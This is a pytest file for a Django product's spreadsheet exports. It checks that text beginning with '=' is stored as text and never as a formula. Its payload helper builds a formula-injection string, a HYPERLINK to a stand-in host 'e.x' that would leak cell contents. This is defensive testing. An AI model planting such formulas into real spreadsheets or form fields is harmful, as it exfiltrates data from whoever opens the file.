"""Every spreadsheet export of the product, fed text that starts with "=", writes it as text — never a formula.

One case per export view (collected from the URL resolver, so a new export that is not covered here fails
``test_every_export_url_is_covered``). Each case puts a ``=HYPERLINK(...)`` payload into every kind of text
the export shows — a worker's need, a provider's project description in the public menu, a survey answer,
names in the results and the settlement — downloads the file as its user would and reads it back: every
payload is a text cell (``data_type`` "s") holding exactly that text, and no cell of any worksheet is a
formula or an error (neither by openpyxl's reading nor in the raw sheet XML). The results workbook's 评分明细
(the sheet file, written by the engine itself) is held to the same rule, and its digest still is the
published one.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

import dajia
from dajia.agreements.tests.fixtures import (  # noqa: F401 (fixtures)
    agreements,
    budgets,
    place_order,
    projects,
    published_session,
    stress_agreement,
)
from dajia.core.xlsx import MONEY, XLSX_CONTENT_TYPE

pytestmark = pytest.mark.django_db

EXPORT_SUFFIXES = (".xlsx", ".csv", ".xls")
EXPORT_NAME_ENDINGS = ("export", "_xlsx", "_csv")


def payload(tag: str) -> str:
    """A formula an attacker would plant: Excel would run it and show a link that leaks the workbook."""
    return f'=HYPERLINK("//e.x/"&A1,"{tag}")'


# ---- one builder per export: returns (client, url, the payloads the file must hold as text) -------------


def _menu(request, client):
    from dajia.menu.models import ServiceProject
    from dajia.orgs.models import Provider

    provider = request.getfixturevalue("provider")
    project = request.getfixturevalue("make_project")(provider, "职工心理减压工作坊")
    texts = {
        "title": payload("title"),
        "description": payload("description"),
        "audience": payload("audience"),
        "areas_served": payload("areas"),
    }
    ServiceProject.objects.filter(pk=project.pk).update(**texts)
    Provider.objects.filter(pk=provider.pk).update(name=payload("provider"))
    # Public: the menu export needs no login.
    return client, reverse("menu:export"), [*texts.values(), payload("provider")]


def _office_needs(request, client):
    from dajia.accounts.models import User
    from dajia.needs import services
    from dajia.orgs.models import Union

    union = request.getfixturevalue("union")
    worker = request.getfixturevalue("chair_user")
    services.need_create(actor=worker, text=payload("need"), union=union)
    Union.objects.filter(pk=union.pk).update(name=payload("union"))
    # A self-registered worker chooses their own name; the office's export shows who raised the need.
    User.objects.filter(pk=worker.pk).update(first_name=payload("author"), last_name="")
    client.force_login(request.getfixturevalue("office_user"))
    return client, reverse("needs:office_export"), [payload("need"), payload("union"), payload("author")]


def _ranking(request, client):
    from dajia.menu.models import Category
    from dajia.needs import services

    category = request.getfixturevalue("category")
    services.need_create(
        actor=request.getfixturevalue("chair_user"),
        text="希望多办心理健康讲座",
        union=request.getfixturevalue("union"),
        category=category,
    )
    Category.objects.filter(pk=category.pk).update(name_zh=payload("category"))
    federation = request.getfixturevalue("federation")
    return client, reverse("needs:ranking_export") + f"?federation={federation.pk}", [payload("category")]


def _survey(request, client):
    from dajia.needs import services_surveys as services
    from dajia.orgs.models import Union

    office, union = request.getfixturevalue("office_user"), request.getfixturevalue("union")
    survey = services.survey_create(
        actor=office, federation=request.getfixturevalue("federation"), title="2020年职工需求调研"
    )
    services.question_add(
        actor=office,
        survey=survey,
        kind="single",
        text=payload("question"),
        options=[payload("option"), "周末"],
    )
    services.question_add(actor=office, survey=survey, kind="text", text="心里话", required=False)
    services.survey_send(actor=office, survey=survey, unions=[union], expected={union.pk: "10"})
    services.survey_open(actor=office, survey=survey)
    single, text = survey.questions.order_by("position")
    services.response_submit(
        invite=survey.invites.get(union=union),
        answers={single.pk: "0", text.pk: payload("answer")},
        submission_id="s1",
    )
    Union.objects.filter(pk=union.pk).update(name=payload("union"))
    client.force_login(office)
    texts = [payload("question"), payload("option"), payload("answer"), payload("union")]
    return client, reverse("needs:survey_export", args=[survey.pk]), texts


def _results(request, client):
    from dajia.consultations import services_results
    from dajia.consultations.tests.test_results_support import build_session
    from dajia.participation.models import LiveSettings, SupportCount

    federation, office = request.getfixturevalue("federation"), request.getfixturevalue("office_user")
    provider = request.getfixturevalue("provider")
    provider.name = payload("provider")
    provider.save(update_fields=["name"])
    title = payload("project")
    session = build_session(
        federation,
        request.getfixturevalue("make_project"),
        title=payload("session"),
        criteria=[(payload("criterion"), "50"), ("方式方法新颖", "50")],
        projects=[(title, "1000", provider)],
        evaluators=[(payload("evaluator"), payload("group")), ("王委员", payload("group"))],
        sheets={(payload("evaluator"), title): [40, 45], ("王委员", title): [30, 35.5]},
    )
    # Verified online viewers, so the workbook also holds its worksheet 网络人气 (the audience index).
    LiveSettings.objects.create(session=session, viewers=1)
    SupportCount.objects.create(session=session, entry=session.entries_by_title[title], supports=1)
    services_results.session_reveal(actor=office, session=session)
    services_results.session_publish(actor=office, session=session)
    client.force_login(office)
    texts = [payload(tag) for tag in ("provider", "project", "session", "evaluator", "group")] + [
        f"{payload('criterion')}(50)"
    ]
    return client, reverse("consultations:results_xlsx", args=[session.pk]), texts


def _settlement(request, client):
    from dajia.menu.models import ServiceProject
    from dajia.orders import services
    from dajia.orders.tests.test_services import _accepted, _delivered
    from dajia.orgs.models import Provider, Union

    office, chair = request.getfixturevalue("office_user"), request.getfixturevalue("chair_user")
    union, agreement = request.getfixturevalue("union"), request.getfixturevalue("stress_agreement")
    provider_user = request.getfixturevalue("provider_user")
    order = _accepted(request.getfixturevalue("place_order"), chair, union, agreement, office, provider_user)
    services.delivery_confirm(actor=chair, order=_delivered(order, provider_user))
    Provider.objects.filter(pk=agreement.provider_id).update(name=payload("provider"))
    ServiceProject.objects.filter(pk=agreement.project_id).update(title=payload("project"))
    Union.objects.filter(pk=union.pk).update(name=payload("union"))
    client.force_login(office)
    texts = [payload("provider"), payload("project"), payload("union")]
    return client, reverse("agreements:settlement_export"), texts


def _desk(request, client):
    from dajia.demo.codes import uscc
    from dajia.desk import services
    from dajia.orgs.models import Enterprise, Park

    federation, office = request.getfixturevalue("federation"), request.getfixturevalue("office_user")
    park = Park.objects.create(name=payload("park"), federation=federation)
    enterprise = Enterprise.objects.create(
        name=payload("enterprise"), uscc=uscc("91", "330723", 1), federation=federation, park=park
    )
    services.case_raise(
        actor=office, enterprise=enterprise, park=park, specialty="lawyer", description="欠薪咨询"
    )
    client.force_login(office)
    return client, reverse("desk:export"), [payload("park"), payload("enterprise")]


def _lectures(request, client):
    from dajia.conftest import make_user
    from dajia.lectures import services
    from dajia.orgs.models import Park

    federation, office = request.getfixturevalue("federation"), request.getfixturevalue("office_user")
    park = Park.objects.create(name=payload("park"), federation=federation)
    park_office = make_user("lectures-park-office", role="park", park=park)
    topic = services.topic_save(
        actor=office, federation_id=federation.pk, specialty="lawyer", title=payload("topic"), minutes=90
    )
    services.lecture_request(
        actor=park_office,
        topic=topic,
        park=park,
        preferred_dates=payload("dates"),
        place=payload("place"),
        expected_audience=30,
    )
    client.force_login(office)
    texts = [payload("park"), payload("topic"), payload("place")]
    return client, reverse("lectures:export"), texts


def _desk_park(request, tag: str):
    from dajia.demo.codes import uscc
    from dajia.orgs.models import Enterprise, Park

    federation = request.getfixturevalue("federation")
    park = Park.objects.create(name=payload(f"{tag} park"), federation=federation)
    enterprise = Enterprise.objects.create(
        name=payload(f"{tag} enterprise"), uscc=uscc("91", "330723", 7), federation=federation, park=park
    )
    return park, enterprise


def _ledger(request, client):
    from dajia.desk import services
    from dajia.desk.tests.conftest import make_volunteer

    park, enterprise = _desk_park(request, "ledger")
    office = request.getfixturevalue("office_user")
    lawyer = make_volunteer("ledgerlawyer", federation=park.federation, parks=[park], firm=payload("firm"))
    case = services.case_raise(
        actor=office, enterprise=enterprise, specialty="lawyer", description="欠薪咨询"
    )
    services.case_assign(actor=office, case=case, volunteer=lawyer)
    services.case_finish(actor=lawyer.user, case=case, closure="solved")
    client.force_login(office)
    return client, reverse("ledger:export"), [payload("ledger park"), payload("firm")]


def _finance(request, client):
    from dajia.finance import services

    _park, enterprise = _desk_park(request, "finance")
    office = request.getfixturevalue("office_user")
    services.files_open(actor=office, enterprises=[enterprise])
    client.force_login(office)
    return client, reverse("finance:export"), [payload("finance park"), payload("finance enterprise")]


def _checkups(request, client):
    from dajia.checkups import services
    from dajia.demo.codes import uscc
    from dajia.orgs.models import Enterprise, Park

    federation, office = request.getfixturevalue("federation"), request.getfixturevalue("office_user")
    park = Park.objects.create(name=payload("park"), federation=federation)
    enterprise = Enterprise.objects.create(
        name=payload("enterprise"), uscc=uscc("91", "330723", 2), federation=federation, park=park
    )
    services.checklist_item_add(
        actor=office, federation=federation, area="wages", question="是否按月足额支付工资？"
    )
    services.checks_open(actor=office, enterprises=[enterprise])
    client.force_login(office)
    return client, reverse("checkups:export"), [payload("park"), payload("enterprise")]


XLSX_EXPORTS = {
    "menu:export": _menu,
    "checkups:export": _checkups,
    "desk:export": _desk,
    "lectures:export": _lectures,
    "ledger:export": _ledger,
    "finance:export": _finance,
    "needs:office_export": _office_needs,
    "needs:ranking_export": _ranking,
    "needs:survey_export": _survey,
    "consultations:results_xlsx": _results,
    "agreements:settlement_export": _settlement,
}
# The product has no CSV export today. One added must go through dajia.core.xlsx.csv_bytes (which neutralises
# a leading = + - @ tab or CR) and get a case here checking each of those; the coverage test below insists.
CSV_EXPORTS: dict = {}


def _export_url_names(patterns=None, namespace: str = "") -> set[str]:
    """The names of every URL that downloads a spreadsheet: its route ends in .xlsx/.csv or its name in
    export/_xlsx/_csv."""
    found = set()
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            found |= _export_url_names(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            route = str(pattern.pattern).rstrip("$")
            if route.endswith(EXPORT_SUFFIXES) or pattern.name.endswith(EXPORT_NAME_ENDINGS):
                found.add(f"{namespace}{pattern.name}")
    return found


def test_every_export_url_is_covered():
    assert _export_url_names() == set(XLSX_EXPORTS) | set(CSV_EXPORTS)


def _download(request, name: str) -> tuple[bytes, list[str]]:
    from django.test import Client

    client, url, texts = XLSX_EXPORTS[name](request, Client())
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return response.content, texts


@pytest.mark.parametrize("name", sorted(XLSX_EXPORTS))
def test_text_starting_with_equals_is_a_text_cell_never_a_formula(request, name):
    data, texts = _download(request, name)
    workbook = load_workbook(io.BytesIO(data))
    text_cells: set[str] = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    text_cells.add(cell.value)
    missing = [t for t in texts if t not in text_cells]
    assert not missing, f"{name}: not written as text cells: {missing}"
    # Independently of openpyxl's reading: no worksheet XML holds a formula element.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert len(sheets) == len(workbook.worksheets)
        for member in sheets:
            assert not re.search(rb"<(\w+:)?f[ >]", archive.read(member)), member


def test_the_sheet_file_in_the_results_keeps_its_digest(request):
    """The 评分明细 written with "=" names reads back to the very sheets that were published: re-tallying the
    download gives the published digest (what ``dajia tally`` prints) and its text cells stay text."""
    from dajia.consultations.models import PublishedResult
    from dajia.scoring import engine
    from dajia.scoring.sheetfile import SHEET_NAME, parse_bytes

    data, _ = _download(request, "consultations:results_xlsx")
    published = PublishedResult.objects.get()  # the one session the case built
    file = parse_bytes(data, "评审结果.xlsx")
    assert engine.digest(file.criteria, file.sheets) == published.digest
    assert engine.canonical_sheet_file(file.criteria, file.sheets) == published.canonical_sheets
    assert payload("criterion") in [c.name for c in file.criteria]
    workbook = load_workbook(io.BytesIO(data))
    detail = workbook[SHEET_NAME]
    assert [c.data_type for c in detail[2]] == ["s", "s", "s", "n", "n"]
    # The audience worksheet is in the file (so the every-export test covered it) and names the project as text.
    assert (workbook["网络人气"]["B2"].value, workbook["网络人气"]["B2"].data_type) == (
        payload("project"),
        "s",
    )


def test_money_is_a_number_in_yuan_format(request):
    """The menu's unit price: a number cell (it adds up in Excel) shown as ¥2,800.00."""
    data, _ = _download(request, "menu:export")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["G1"].value == "单价（元/场）"
    price = ws["G2"]
    assert price.data_type == "n" and Decimal(str(price.value)) == Decimal("2800.00")
    assert price.number_format == MONEY == "¥#,##0.00"


def test_settlement_money_columns_use_the_yuan_format(request):
    data, _ = _download(request, "agreements:settlement_export")
    workbook = load_workbook(io.BytesIO(data))
    summary = list(workbook["结算汇总"].iter_rows(min_row=2))
    # Agreement amount, per-session amount and amount due, on every line and on the total.
    assert all(cells[9].data_type == "n" and cells[9].number_format == MONEY for cells in summary)
    assert all(cells[i].number_format == MONEY for cells in summary[:-1] for i in (4, 6))
    assert summary[-1][0].value == "合计" and summary[-1][0].font.bold
    detail = list(workbook["场次明细"].iter_rows(min_row=2))
    assert detail and all(cells[6].data_type == "n" and cells[6].number_format == MONEY for cells in detail)


# Modules that may touch openpyxl: the writer, and the engine's sheet file (its own writer, under the same
# rule, plus its reader); every importer reads uploads through the one capped reader, which only loads workbooks.
OPENPYXL_WRITERS = {"core/xlsx.py", "scoring/sheetfile.py"}
OPENPYXL_READERS = {"core/spreadsheets.py"}


def test_no_export_builds_cells_another_way():
    root = Path(dajia.__file__).parent
    users = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and "openpyxl" in path.read_text(encoding="utf-8")
    }
    assert users == OPENPYXL_WRITERS | OPENPYXL_READERS
    for module in OPENPYXL_READERS:
        source = (root / module).read_text(encoding="utf-8")
        assert "load_workbook" in source and not re.search(
            r"\bWorkbook\(|create_sheet|openpyxl\.styles", source
        ), module
